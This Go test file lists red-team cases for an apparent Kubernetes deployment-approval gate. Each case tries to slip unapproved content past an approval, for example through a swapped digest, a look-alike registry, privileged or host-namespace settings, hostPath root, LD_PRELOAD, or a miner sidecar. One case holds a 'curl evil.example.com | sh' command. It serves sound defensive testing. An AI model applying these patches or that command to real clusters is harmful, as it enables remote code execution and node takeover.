// Copyright 2026 The Countersign Authors.
// SPDX-License-Identifier: Apache-2.0

package redteam

// An approval is for one content, exactly. Each of these was approved without what is tricky about it, and is then
// applied with it; what was approved gets in.
var content = []attack{
	trick("Other digest", "another image of the same name", web(`{image: "$EVIL"}`)),
	trick("Tag beside the digest", "a reviewer reads the tag, the node the digest",
		web(`{image: "registry.example.com/checkout:v1@sha256:`+deadDigest+`"}`)),
	trick("Registry that looks alike", "a prefix that is compared as text fits it",
		web(`{image: "registry.example.com.evil.example.com/checkout@sha256:`+goodDigest+`"}`)),
	trick("Command", "the same image does something else", web(`{command: [sh, -c, "curl evil.example.com | sh"]}`)),
	trick("Arguments", "so it does by its arguments", web(`{args: ["--debug-listen=0.0.0.0:1"]}`)),
	trick("Environment variable", "or by a variable", web(`{env: [{name: LD_PRELOAD, value: /tmp/evil.so}]}`)),
	trick("Variable given twice", "the last one wins, and a list by name keeps the first",
		web(`{env: [{name: MODE, value: safe}, {name: MODE, value: evil}]}`)),
	trick("All variables of a Secret", "envFrom brings in what nobody listed",
		web(`{envFrom: [{secretRef: {name: root}}]}`)),
	trick("Working directory", "a relative path finds something else", web(`{workingDir: /tmp}`)),
	trick("Hook after the start", "runs a command that is no container's",
		web(`{lifecycle: {postStart: {exec: {command: [sh]}}}}`)),
	trick("Probe that runs a command", "every ten seconds", web(`{livenessProbe: {exec: {command: [sh, -c, id]}}}`)),
	trick("Init container", "runs before the one that was looked at",
		podSpec(`{initContainers: [{name: first, image: "$EVIL"}]}`)),
	trick("Sidecar", "an init container that stays",
		podSpec(`{initContainers: [{name: beside, image: "$EVIL", restartPolicy: Always}]}`)),
	trick("Second container", "beside the one that was looked at",
		podSpec(`{containers: [{name: web, image: "$GOOD"}, {name: miner, image: "$EVIL"}]}`)),
	trick("Image as a volume", "an image that no container names", podSpec(`{volumes: [{name: v,
		image: {reference: "$EVIL"}}]}`)),
	trick("Files of the host", "the whole node", podSpec(`{volumes: [{name: v, hostPath: {path: /}}]}`)),
	trick("Token as a volume", "for another audience", podSpec(`{volumes: [{name: v, projected: {sources:
		[{serviceAccountToken: {path: token, audience: vault}}]}}]}`)),
	trick("Secret as a volume", "one that the release does not need", podSpec(`{volumes: [{name: v,
		secret: {secretName: root}}]}`)),
	trick("Another service account", "with other rights", podSpec(`{serviceAccountName: stranger}`)),
	trick("Token where there was none", "automountServiceAccountToken", podSpec(`{automountServiceAccountToken: true}`)),
	trick("Privileged", "is root on the node", web(`{securityContext: {privileged: true}}`)),
	trick("Capability", "one is enough", web(`{securityContext: {capabilities: {add: [SYS_ADMIN]}}}`)),
	trick("Root", "runs as user 0", podSpec(`{securityContext: {runAsUser: 0}}`)),
	trick("Processes of the host", "sees and stops them", podSpec(`{hostPID: true}`)),
	trick("Network of the host", "listens to it", podSpec(`{hostNetwork: true}`)),
	trick("Shared processes", "one container reads the other's memory", podSpec(`{shareProcessNamespace: true}`)),
	trick("Chosen node", "one that the attacker looks into", podSpec(`{nodeName: mine}`)),
	trick("Own scheduler", "that chooses it later", podSpec(`{schedulerName: mine}`)),
	trick("Tolerations", "for the nodes of the control plane", podSpec(`{tolerations: [{operator: Exists}]}`)),
	trick("Names of hosts", "sends calls elsewhere", podSpec(`{hostAliases: [{ip: 10.6.6.6,
		hostnames: [db.example.com]}]}`)),
	trick("Image from the node's cache", "which somebody filled", web(`{imagePullPolicy: Never}`)),
	trick("Other credentials for the registry", "of a mirror of one's own", podSpec(`{imagePullSecrets: [{name: mine}]}`)),
	trick("Annotation of the template", "which an injector takes for an order",
		`{spec: {template: {metadata: {annotations: {sidecar.istio.io/inject: "true"}}}}}`),
	trick("Label of the template", "which another Service selects",
		`{spec: {template: {metadata: {labels: {role: database}}}}}`),
	trick("Strategy", "stops all before it starts one", `{spec: {strategy: {type: Recreate}}}`),
	{
		name: "Image named twice", does: "sends the field twice; one reader takes the first, another the last",
		as: dan, before: approvedDeployment,
		call: create(" " + doubled),
		by:   rule("workloads.gate", "the digest is over what would run"), says: "kubectl countersign approve",
		right: []step{by(dan, create(deployment()))}, rightly: "what was approved",
	},
	{
		name: "Mutation of what was approved", does: "has a MutatingAdmissionPolicy change the image on the way in",
		as: dan, before: append(mutating("deployments", "apps", `Object{spec: Object.spec{template: Object.spec.template{spec:
			Object.spec.template.spec{hostPID: true}}}}`), approvedDeployment...),
		call: create(deployment(`{metadata: {labels: {mutate: $ME}}}`)),
		by:   rule("workloads.gate", "content is judged after all mutation"), says: "kubectl countersign approve",
		right: []step{by(dan, create(deployment()))}, rightly: "what no mutation touches",
	},
	{
		name: "Mutation of a controller's Pods", does: "has it change the Pods that a ReplicaSet makes",
		as: mallory, call: create(mutation("pods", "''", `Object{spec: Object.spec{hostPID: true}}`)),
		verdict: limit, limit: changesPods,
		seen: onServerRecord, trace: auditedByServer("mutatingadmissionpolicies", "$ME", "mallory@example.com"),
	},
	{
		name: "Parameter of a mutation",
		does: "writes the ConfigMap that a policy of the platform takes, and which no workload uses",
		as:   alice, before: []step{given(parametric), given(parameterized)},
		call:    create(`{apiVersion: v1, kind: ConfigMap, metadata: {namespace: guarded, name: $ME}, data: {order: evil}}`),
		verdict: limit, limit: changesPods, seen: onServerRecord,
		trace: all(mutatedPod, auditedByServer("namespaces/guarded/configmaps", `"create"`, "alice@example.com", "$ME")),
	},
	{
		name: "Tag where digests are required", does: "a tag that says something else tomorrow",
		as: dan, call: create(deployment(`{metadata: {namespace: payments}}`,
			web(`{image: "registry.example.com/checkout:v1"}`))),
		by: rule("workloads.gate", "`images.digests: Required`"), says: "digest",
		right:   []step{asked(dan, create(deployment(`{metadata: {namespace: payments}}`)))},
		rightly: "a digest can be asked for",
	},
	{
		name: "Configuration of what was approved", does: "changes the ConfigMap that it reads",
		as: owner, before: []step{given(`{apiVersion: v1, kind: ConfigMap, metadata: {namespace: shop, name: $ME}}`)},
		call:    change("ConfigMap shop/$ME", `{data: {run: evil}}`),
		verdict: limit, limit: "ConfigMaps and Secrets without gate Configuration",
		seen: onServerRecord, trace: auditedByServer("configmaps/$ME", "alice@example.com"),
	},
}

const changesPods = "or the objects that these take as parameters, changes the Pods that controllers make"

const (
	goodDigest = "1111111111111111111111111111111111111111111111111111111111111111"
	deadDigest = "666666666666666666666666666666666666666666666666666666666666dead"
)

// trick is applied in place of what was approved.
func trick(name, does, patch string) attack {
	return attack{
		name: name, does: does,
		as: dan, before: approvedDeployment, call: create(deployment(patch)),
		by: rule("workloads.gate", "the digest is over what would run"), says: "kubectl countersign approve",
		right: []step{by(dan, create(deployment()))}, rightly: "what was approved",
	}
}

// approvedDeployment waits to be applied.
var approvedDeployment = []step{operated(asked(dan, create(deployment())), approved(bob))}

// doubled is no YAML, which knows no field that is there twice.
const doubled = `{"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"namespace": "shop", "name": "$ME"},
	"spec": {"selector": {"matchLabels": {"app": "$ME"}}, "template": {"metadata": {"labels": {"app": "$ME"}},
	"spec": {"containers": [{"name": "web", "image": "$GOOD", "image": "$EVIL"}]}}}}`
